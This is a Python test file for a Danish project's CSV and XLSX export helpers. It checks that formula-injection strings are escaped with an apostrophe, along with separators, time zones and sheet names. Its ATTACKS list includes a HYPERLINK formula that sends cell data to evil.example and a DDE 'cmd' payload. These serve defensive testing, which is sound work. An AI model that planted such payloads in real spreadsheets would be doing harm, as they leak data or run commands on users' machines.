"""CSV and XLSX exports: nothing can become a formula, and the values survive the trip."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from brobygger.lib.spreadsheet import Section, safe_cell, sheet_name, write_csv, write_xlsx

ATTACKS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik her")',
    "+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    " =1",
    "  +cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_could_run_as_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Aarhus", "", "a=b", "1-2", "e-mail@x.dk", "x+y", 0, -3, 2.5, None]
)
def test_harmless_values_are_untouched(value):
    assert safe_cell(value) == value


def sections() -> list[Section]:
    return [
        Section(
            title="Forløb",
            header=["Navn", "=Kolonne", "Antal", "Andel", "Dato", "Tom"],
            rows=[[text, "ok", -4, 2.5, date(2025, 3, 1), None] for text in ATTACKS],
            note="-Bemærk: tal under 5 vises som <5",
        ),
        Section(title="Besvarelser: 2025/1 [udkast]", header=["@Kode", "Score"], rows=[["x", 7]]),
    ]


def test_csv_reads_back_with_safe_text_and_danish_separators():
    data = write_csv(sections())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Forløb"]
    assert rows[1] == ["Navn", "'=Kolonne", "Antal", "Andel", "Dato", "Tom"]
    for row, text in zip(rows[2 : 2 + len(ATTACKS)], ATTACKS, strict=True):
        assert row == ["'" + text, "ok", "-4", "2,5", "2025-03-01", ""]
    after = rows[2 + len(ATTACKS) :]
    assert after == [
        ["'-Bemærk: tal under 5 vises som <5"],
        [],
        ["Besvarelser: 2025/1 [udkast]"],
        ["'@Kode", "Score"],
        ["x", "7"],
    ]
    for row in rows:
        for cell in row:
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", " "} or cell == "-4"


def test_xlsx_has_no_formulas_and_keeps_every_value():
    workbook = load_workbook(io.BytesIO(write_xlsx(sections(), title="=Eksport")))
    assert workbook.properties.title == "'=Eksport"
    assert workbook.sheetnames == ["Forløb", "Besvarelser  2025 1  udkast"]
    first, second = workbook.worksheets
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and cell.value.startswith("="))
    assert [c.value for c in first[1]] == ["Navn", "'=Kolonne", "Antal", "Andel", "Dato", "Tom"]
    assert all(c.font.bold for c in first[1])
    for row_number, text in enumerate(ATTACKS, start=2):
        values = [c.value for c in first[row_number]]
        # XML reading turns a bare carriage return into a line feed.
        expected = "'" + text.replace("\r", "\n")
        assert values == [expected, "ok", -4, 2.5, datetime(2025, 3, 1), None]
        assert first.cell(row=row_number, column=1).data_type == "s"
    note_row = len(ATTACKS) + 3
    assert first.cell(row=note_row, column=1).value == "'-Bemærk: tal under 5 vises som <5"
    assert first.cell(row=note_row - 1, column=1).value is None
    assert [[c.value for c in r] for r in second.iter_rows()] == [["'@Kode", "Score"], ["x", 7]]
    assert first.column_dimensions["A"].width > first.column_dimensions["C"].width >= 8


def test_aware_datetimes_are_written_in_copenhagen_time():
    moment = datetime(2025, 6, 1, 10, 0, tzinfo=UTC)
    section = Section(title="T", header=["Tid"], rows=[[moment]])
    assert "2025-06-01 12:00" in write_csv([section]).decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(write_xlsx([section], title="T"))).active
    assert sheet is not None
    assert sheet["A2"].value == datetime(2025, 6, 1, 12, 0)


def test_control_characters_are_dropped_rather_than_breaking_the_file():
    section = Section(title="T", header=["Tekst"], rows=[["a\x00b\x07c"]])
    sheet = load_workbook(io.BytesIO(write_xlsx([section], title="T"))).active
    assert sheet is not None
    assert sheet["A2"].value == "abc"


def test_sheet_names_are_valid_and_unique():
    used: set[str] = set()
    long = "Spørgeskemabesvarelser efter udskrivelse fra afsnit"
    names = [
        sheet_name(long, used),
        sheet_name(long, used),
        sheet_name("a/b\\c?d*e:f[g]", used),
        sheet_name("'citat'", used),
        sheet_name("???", used, fallback="3"),
        sheet_name("History", used),
        sheet_name("FORLØB", used),
        sheet_name("forløb", used),
    ]
    assert names[0] == long[:31]
    assert names[1].endswith(" (2)") and len(names[1]) <= 31
    assert names[2] == "a b c d e f g"
    assert names[3] == "citat"
    assert names[4] == "3"
    assert names[5] != "History"
    assert names[6] == "FORLØB" and names[7] == "forløb (2)"
    assert all(len(n) <= 31 for n in names)
    assert len({n.casefold() for n in names}) == len(names)


def test_empty_workbook_still_opens():
    workbook = load_workbook(io.BytesIO(write_xlsx([], title="Tom")))
    assert len(workbook.sheetnames) == 1
    assert write_csv([]) == b"\xef\xbb\xbf"
